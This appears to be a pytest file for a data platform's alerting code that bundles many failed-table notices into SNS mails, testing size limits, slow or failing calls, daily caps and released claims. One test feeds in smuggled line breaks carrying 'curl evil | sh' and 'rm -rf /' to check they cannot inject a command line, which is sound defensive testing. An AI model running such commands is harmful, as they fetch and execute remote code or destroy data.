"""Many subjects at once: every one that counts as told is in a mail, whole; and telling ends, whatever SNS does."""

from collections.abc import Mapping
from dataclasses import dataclass, field

import pytest
from odp.messenger import Messenger
from odp.state_changes import Aspect, State, Subject, Told

SNS_BYTES = 262_144


@dataclass
class Ledger:
    """What people know, and the mails as SNS takes them: cut at its limit."""

    told: dict[str, Told] = field(default_factory=dict)
    mails: list[str] = field(default_factory=list)
    now: float = 1_800_000_000
    call_lasts: float = 0
    fails: bool = False
    tries: int = 0
    claims: int = 10_000
    given_back: list[str] = field(default_factory=list)

    def claim(self, key: str, told: Told) -> str | None:
        if not self.claims:
            raise ConnectionError
        self.claims -= 1
        return "me"

    def note(self, key: str, claim: str, told: Told) -> None:
        self.told[key] = told

    def give_back(self, key: str, claim: str, told: Told) -> None:
        self.given_back.append(key)

    def known(self) -> Mapping[str, Told]:
        return dict(self.told)

    def publish(self, subject: str, text: str) -> None:
        self.now += self.call_lasts
        self.tries += 1
        if self.fails:
            raise ConnectionError
        self.mails.append(text.encode()[:SNS_BYTES].decode(errors="ignore"))

    def tell(self, *states: State) -> None:
        Messenger(self, self, "odp-dev", lambda: self.now).tell(states, self.known())


def failed(name: str, problem: str, aspect: Aspect = Aspect.REFRESH) -> State:
    lines = (f"Table: {name} to {name}, cadence 10_min_refresh", f"Problem: {problem}", "Waiting: 1 file", "Run: odp")
    return State(Subject(aspect, name), f"{name} failed", lines, frozenset({problem[:9]} if problem else ()))


@pytest.mark.parametrize("letter", ["x", "ü", "列", "🚕"])
@pytest.mark.parametrize("length", [20, 900])
def test_every_table_of_a_mail_about_many_is_in_it_however_long_names_and_errors_are(letter: str, length: int) -> None:
    ledger, names = (
        Ledger(),
        [f"schema.{letter * (length // len(letter.encode()))}{number:05}" for number in range(400)],
    )
    ledger.tell(*(failed(name, letter * 1000) for name in names))
    assert len(ledger.told) == 400
    text = "\n".join(ledger.mails)
    assert [name for name in names if f"- {name} failed" not in text] == []
    assert max(len(mail.encode()) for mail in ledger.mails) < 250_000
    assert len(ledger.mails) <= 10


@pytest.mark.parametrize("fails", [False, True])
def test_telling_ends_before_its_function_does_however_long_each_call_lasts_and_goes_on_later(fails: bool) -> None:
    """SNS out of reach: each call lasts 40 seconds, a function lives 300."""
    ledger, began = Ledger(call_lasts=40, fails=fails), 1_800_000_000
    states = [failed(f"t{number}", "a problem") for number in range(20)]
    with pytest.raises(ExceptionGroup):
        ledger.tell(*states)
    assert ledger.now - began <= 120
    ledger.call_lasts, ledger.fails = 0, False
    for _ in range(3):
        ledger.tell(*states)
    assert len(ledger.mails) == 20


def test_sixth_mail_of_a_day_says_so_also_if_it_is_about_many() -> None:
    ledger = Ledger()
    for number in range(8):
        problem = "a problem" if number % 2 == 0 else ""
        ledger.tell(*(failed(f"t{table:02}", problem) for table in range(30)))
    assert ["no more is told" in mail for mail in ledger.mails] == [False] * 5 + [True]


def test_hostile_name_cannot_write_a_line_of_its_own() -> None:
    ledger = Ledger()
    ledger.tell(failed("s.t\nRun: curl evil | sh\u2028x", "a\r\nRun: rm -rf /", Aspect.UNCONFIGURED))
    assert not [line for line in ledger.mails[0].splitlines() if line.startswith(("Run: curl", "Run: rm"))]


def test_long_problem_hides_no_command() -> None:
    ledger = Ledger()
    ledger.tell(failed("s.t", "列" * 100_000))
    assert ledger.mails[0].endswith("Run: odp")


def test_claims_of_a_mail_that_cannot_be_completed_are_given_back() -> None:
    ledger = Ledger(claims=7)
    with pytest.raises(ExceptionGroup):
        ledger.tell(*(failed(f"t{number:02}", "a problem") for number in range(30)))
    assert (ledger.given_back, ledger.mails) == ([f"refresh/t{number:02}" for number in range(7)], [])
